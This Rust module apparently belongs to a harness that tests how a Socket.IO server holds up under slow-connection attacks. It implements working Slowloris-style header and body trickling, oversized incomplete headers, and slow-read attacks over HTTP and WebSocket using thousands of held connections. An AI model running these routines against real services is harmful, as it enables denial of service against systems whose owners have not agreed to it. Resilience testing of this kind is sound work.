//! Attackers that take their time.

use std::io;
use std::time::Duration;

use tokio::io::{AsyncWriteExt, Interest};
use tokio::net::TcpStream;
use tokio::time::sleep;

use super::floods::UPGRADE;
use super::{Tally, Target, hold, owner_door, read_on};
use crate::session;

const BETWEEN_BYTES: Duration = Duration::from_secs(1);
const BETWEEN_MESSAGES: Duration = Duration::from_secs(1);
/// Smallest receive buffer that Linux gives.
const WINDOW: u32 = 2304;
/// A file that Socket.IO serves, and whose query looks like a handshake's.
const LARGE: &str = "/socket.io/socket.io.js.map?EIO=4&transport=polling";
/// Connections of each kind of attackers that read nothing.
const READERS: usize = 4096;

pub(super) async fn heads(target: Target) -> String {
    let tally = hold(target, target.door, 3000, None, async |stream: TcpStream, _: &Tally| {
        trickle(stream, "GET /healthz HTTP/1.1\r\nHost: a\r\nX-Slow: ").await
    });
    tally.await.held()
}

pub(super) async fn incomplete_heads(target: Target) -> String {
    let head = format!("GET /healthz HTTP/1.1\r\nHost: a\r\nX: {}", "x".repeat(30_000));
    let tally = hold(target, target.door, 4096, None, async move |mut stream: TcpStream, _: &Tally| {
        stream.write_all(head.as_bytes()).await?;
        read_on(&mut stream).await
    });
    tally.await.held()
}

pub(super) async fn bodies(target: Target) -> String {
    let tally = hold(target, target.door, 1000, None, async |stream: TcpStream, _: &Tally| {
        trickle(stream, "POST /healthz HTTP/1.1\r\nHost: a\r\nContent-Length: 1000\r\n\r\n").await
    });
    tally.await.held()
}

pub(super) async fn readers(target: Target) -> String {
    ask_and_not_read(target, LARGE).await
}

pub(super) async fn forwarded_readers(target: Target) -> String {
    let session = match session::open(owner_door()) {
        Ok(session) => session,
        Err(error) => return format!("no session: {error:#}"),
    };
    let sid = session.rsplit('&').next().unwrap_or_default();
    ask_and_not_read(target, &format!("{LARGE}&{sid}")).await
}

async fn ask_and_not_read(target: Target, file: &str) -> String {
    let request = format!("GET {file} HTTP/1.1\r\nHost: a\r\n\r\n");
    let tally =
        hold(target, target.door, READERS, Some(WINDOW), async move |mut stream: TcpStream, _: &Tally| {
            stream.write_all(request.as_bytes()).await?;
            until_reset(&stream).await
        });
    tally.await.held()
}

pub(super) async fn websocket_readers(target: Target) -> String {
    let messages = [text("40"), text("420[\"big\",308000]")];
    let each = async move |mut stream: TcpStream, _: &Tally| {
        stream.write_all(UPGRADE.as_bytes()).await?;
        stream.readable().await?;
        for message in &messages {
            // The application takes an event only after it has opened the namespace.
            sleep(BETWEEN_MESSAGES).await;
            stream.write_all(message).await?;
        }
        until_reset(&stream).await
    };
    hold(target, target.door, READERS, Some(WINDOW), each).await.held()
}

/// A short text message, with a mask of zeros (RFC 6455 section 5.2).
fn text(message: &str) -> Vec<u8> {
    let length = u8::try_from(message.len()).unwrap_or(u8::MAX);
    [&[0x81, 0x80 | length, 0, 0, 0, 0], message.as_bytes()].concat()
}

/// Waits until the other side resets the connection, and reads nothing.
async fn until_reset(stream: &TcpStream) -> io::Result<()> {
    stream.ready(Interest::ERROR).await?;
    Ok(())
}

/// Sends `start`, then a byte a second until the other side ends the connection.
async fn trickle(mut stream: TcpStream, start: &str) -> io::Result<()> {
    stream.write_all(start.as_bytes()).await?;
    let (mut reads, mut writes) = stream.split();
    let writing = async {
        loop {
            sleep(BETWEEN_BYTES).await;
            writes.write_all(b"a").await?;
        }
    };
    tokio::select! {
        ended = read_on(&mut reads) => ended,
        failed = writing => failed,
    }
}
